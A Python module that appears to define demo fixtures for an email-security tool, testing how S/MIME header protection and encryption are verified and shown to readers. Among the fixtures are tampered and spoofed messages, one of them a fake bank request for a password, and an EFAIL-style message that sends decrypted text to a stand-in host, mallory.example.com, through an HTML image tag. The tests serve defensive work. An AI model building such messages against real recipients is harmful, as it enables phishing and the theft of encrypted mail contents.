"""Messages whose header fields are protected with the text, and encrypted ones (RFC 9788, RFC 8551)."""

from __future__ import annotations

from mailsec.demo.example import Example, collector
from mailsec.demo.world import ALICE, BOB, READER, World
from mailsec.hooks.types import Form
from mailsec.message import parse
from mailsec.message.compose import Entity, multipart, text, write_message

__all__ = ["PROTECTED"]

PROTECTED: list[Example] = []
example = collector(PROTECTED)

AUTHOR = "alice@example.org"
SURPRISE = "Hello Robin,\n\nlet us surprise Bob on Saturday; please tell nobody.\n\nAlice\n"


async def _signed(world: World, subject: str) -> bytes:
    return await world.protect(world.draft(subject, SURPRISE), world.certify(AUTHOR), header=True)


@example("signed, and its header fields with it", "verified", 7)
async def header_signed(world: World) -> bytes:
    return await _signed(world, "Saturday, signed with its header")


@example("the subject was replaced on the way; the signed one is shown", "verified", 7)
async def header_replaced(world: World) -> bytes:
    signed = await _signed(world, "Saturday, as I wrote it")
    return signed.replace(b"Subject: Saturday, as I wrote it", b"Subject: Pay this at once", 1)


@example("a list put its own From outside; the author who signed is shown", "verified", 7)
async def header_list_from(world: World) -> bytes:
    signed = await _signed(world, "Saturday, by way of a list")
    return signed.replace(b"From: Alice Example <alice@example.org>", b"From: Lists <friends@lists.example.com>", 1)


@example("a Cc was added on the way, which nobody signed", "verified", 7)
async def header_added(world: World) -> bytes:
    return b"Cc: mallory@example.com\r\n" + await _signed(world, "Saturday, and nobody else")


@example("encrypted by somebody who names another author inside", "warning", 5)
async def header_spoofed(world: World) -> bytes:
    draft = world.draft("Your account", "Please send me your password.\n", "Your Bank <service@bank.example>")
    mallory = world.certify("mallory@example.com")
    hidden = await world.protect(draft, mallory, form=Form.ENCRYPTED, header=True)
    return hidden.replace(b"Your Bank <service@bank.example>", b"Mallory <mallory@example.com>", 1)


@example("signed, and encrypted to the reader with its subject", "verified", 7)
async def encrypted(world: World) -> bytes:
    draft = world.draft("The surprise on Saturday", SURPRISE)
    return await world.protect(draft, world.certify(AUTHOR), form=Form.SIGNED_ENCRYPTED, header=True)


@example("signed, encrypted and signed again (triple wrap)", "verified", 7)
async def encrypted_triple(world: World) -> bytes:
    draft = world.draft("The surprise, wrapped three times", SURPRISE)
    return await world.protect(draft, world.certify(AUTHOR), form=Form.TRIPLE, header=True)


@example("encrypted to the reader, and signed by nobody", "unauthenticated", 19)
async def encrypted_unsigned(world: World) -> bytes:
    draft = world.draft("Encrypted by anybody", SURPRISE)
    return await world.protect(draft, world.certify(AUTHOR), form=Form.ENCRYPTED, header=True)


@example("encrypted in a mode that does not show changes", "unauthenticated", 19)
async def encrypted_cbc(world: World) -> bytes:
    draft = world.draft("Encrypted the old way", SURPRISE)
    old = {"form": Form.ENCRYPTED, "capabilities": ["aes256-cbc"]}
    return await world.protect(draft, world.certify(AUTHOR), **old)  # type: ignore[arg-type]


@example("an encrypted part between parts that would carry it away (EFAIL)", "unauthenticated", 19)
async def encrypted_exfiltration(world: World) -> bytes:
    draft = world.draft("Encrypted for somebody who was listened to", SURPRISE)
    hidden = parse(await world.protect(draft, world.certify(AUTHOR), form=Form.ENCRYPTED, capabilities=["aes256-cbc"]))
    content = tuple(field.raw for field in hidden.header if field.key.startswith("content-"))
    before = text('<img src="http://mallory.example.com/', "html")
    after = text('">', "html")
    fields = [("From", ALICE), ("To", READER), ("Subject", "Have you seen this?"), ("Date", hidden.header[3].value)]
    return write_message(fields, multipart("mixed", before, Entity(content, bytes(hidden.body)), after))


@example("encrypted to somebody else", "unauthenticated", 19)
async def encrypted_to_another(world: World) -> bytes:
    draft = world.draft("Not for you", SURPRISE)
    return await world.protect(draft, world.certify(AUTHOR), form=Form.SIGNED_ENCRYPTED, header=True, reader=BOB)
